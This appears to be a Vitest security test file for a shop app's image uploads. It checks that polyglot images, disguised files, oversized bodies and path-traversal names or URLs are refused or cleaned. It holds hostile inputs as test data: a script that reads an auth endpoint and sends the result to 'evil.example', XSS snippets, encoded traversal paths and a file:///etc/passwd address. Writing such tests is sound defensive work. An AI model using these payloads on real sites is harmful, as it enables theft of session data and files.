// Files and names as an attacker shapes them: polyglots (an image header in front of a script), disguised and
// oversized files, and paths that climb out of the upload folder, on the way in and on the way out.
import fs from "node:fs";
import path from "node:path";
import crypto from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createUser, startTestServer, type TestServer } from "../support/harness.js";
import { UPLOAD_IMAGE_PATH } from "../../src/modules/upload/upload.router.js";
import { expectNoLeak, hit, rawGet } from "./attack.js";

const MAX = 64 * 1024;
let t: TestServer;
let admin: Awaited<ReturnType<typeof createUser>>;
beforeAll(async () => {
  t = await startTestServer({ UPLOAD_MAX_BYTES: String(MAX) });
  admin = await createUser(t, { role: "admin" });
});
afterAll(() => t?.close());

const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
const SCRIPT = "<html><body><script>fetch('/api/auth/check-auth').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script></body></html>";

function upload(content: Buffer, filename: string, type = "image/png", field = "my_file") {
  const form = new FormData();
  form.append(field, new Blob([content], { type }), filename);
  return hit(t.url, "POST", UPLOAD_IMAGE_PATH, { token: admin.token, body: form });
}
// Uploads live in the shared store (the database here), named by their hash.
const stored = async () => (await t.db.prisma.image.findMany({ select: { sha256: true }, orderBy: { sha256: "asc" } })).map((i) => i.sha256);
const onDisk = () => (fs.existsSync(t.config.uploadDir) ? fs.readdirSync(t.config.uploadDir) : []);

describe("uploads", () => {
  it("polyglots (an image header, then a page with a script): a header alone is refused; a real image's trailing page is dropped", async () => {
    const fake = await upload(Buffer.concat([Buffer.from("GIF89a"), Buffer.from(SCRIPT)]), "page.html", "text/html");
    expect(fake.status).toBe(400);
    // A decodable PNG with a page after it: what is kept is the picture, written again, without the page.
    const res = await upload(Buffer.concat([PNG, Buffer.from(SCRIPT)]), "page.html", "text/html");
    expect(res.status).toBe(200);
    expect(res.json.result.url).toMatch(/^\/uploads\/[0-9a-f]{64}\.png$/);
    const served = await fetch(`${t.url}${res.json.result.url}`);
    expect(served.headers.get("content-type")).toBe("image/png");
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.headers.get("content-security-policy")).toBe("default-src 'none'");
    expect(Buffer.from(await served.arrayBuffer()).includes(Buffer.from("<script"))).toBe(false);
  });

  it("refuses what is no image, whatever its name and declared type, and stores nothing", async () => {
    const before = await stored();
    const fakes: [string, Buffer, string, string][] = [
      ["an SVG with a script", Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "logo.svg", "image/svg+xml"],
      ["a page named .png", Buffer.from(SCRIPT), "photo.png", "image/png"],
      ["a PDF", Buffer.from("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj"), "photo.jpg", "image/jpeg"],
      ["a cut-off GIF header", Buffer.from("GIF8"), "a.gif", "image/gif"],
      ["an empty file", Buffer.alloc(0), "a.png", "image/png"],
    ];
    for (const [what, content, name, type] of fakes) {
      const res = await upload(content, name, type);
      expect(res.status, what).toBe(400);
      expectNoLeak(res, what);
    }
    expect(await stored()).toEqual(before);
  });

  it("refuses a file over UPLOAD_MAX_BYTES and a body over BODY_LIMIT with 413, storing nothing", async () => {
    const before = await stored();
    const big = Buffer.concat([PNG, crypto.randomBytes(MAX)]);
    const res = await upload(big, "big.png");
    expect(res.status).toBe(413);
    expect(await stored()).toEqual(before);
    const json = await hit(t.url, "POST", "/api/auth/login", { body: { email: "a@example.test", password: "x".repeat(2 * 1024 * 1024) } });
    expect(json.status).toBe(413);
  });

  it("ignores the client's file name: climbing names land under the image's hash, in the store, never on disk", async () => {
    const tag = crypto.randomBytes(6).toString("hex");
    for (const name of [`../../../../tmp/evil-${tag}.png`, `..\\..\\evil-${tag}.png`, `/etc/evil-${tag}.png`, `evil-${tag}.png.html`, `.htaccess`]) {
      const res = await upload(PNG, name);
      expect(res.status, name).toBe(200);
      expect(res.json.result.url, name).toMatch(/^\/uploads\/[0-9a-f]{64}\.png$/);
    }
    // A NUL in the name is refused outright.
    expect((await upload(PNG, `evil-${tag}.png\u0000.html`)).status).toBe(400);
    const escaped = [path.join("/tmp", `evil-${tag}.png`), path.resolve(t.config.uploadDir, "../..", `evil-${tag}.png`), path.resolve(t.config.dataDir, `evil-${tag}.png`)];
    for (const p of escaped) expect(fs.existsSync(p), p).toBe(false);
    expect(onDisk()).toEqual([]);
  });

  it("serves nothing from outside the upload and image folders, however the path is encoded", async () => {
    fs.mkdirSync(t.config.uploadDir, { recursive: true });
    fs.writeFileSync(path.join(t.config.dataDir, "secret.txt"), "TOP-SECRET-CONTENT");
    for (const p of [
      "/uploads/../secret.txt",
      "/uploads/..%2fsecret.txt",
      "/uploads/%2e%2e/secret.txt",
      "/uploads/%2e%2e%2fsecret.txt",
      "/uploads/..\\secret.txt",
      "/uploads/..%5csecret.txt",
      "/uploads/....//secret.txt",
      "/uploads/%252e%252e%252fsecret.txt",
      "/images/products/../../../../package.json",
      "/images/products/..%2f..%2f..%2f..%2fpackage.json",
      "/images/banners/%2e%2e%2f%2e%2e%2fpackage.json",
      "/uploads/%00",
    ]) {
      const res = await rawGet(t.url, p);
      expect(res.status, p).toBeGreaterThanOrEqual(400);
      expect(res.text, p).not.toContain("TOP-SECRET-CONTENT");
      expect(res.text, p).not.toMatch(/"workspaces"|"devDependencies"/);
      expectNoLeak(res, p);
    }
  });

  it("refuses image addresses that climb folders or run script when a product stores them", async () => {
    for (const image of ["/uploads/../../package.json", "/images/..%2f..%2fpackage.json", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd"]) {
      const res = await hit(t.url, "POST", "/api/admin/products/add", {
        token: admin.token,
        body: { title: "Sneaky", description: "x", category: "men", brand: "nike", image, price: 10, totalStock: 1 },
      });
      expect(res.status, image).toBe(400);
      expect(res.json.message, image).toMatch(/image must be an uploaded image or an http\(s\) URL/);
    }
  });
});
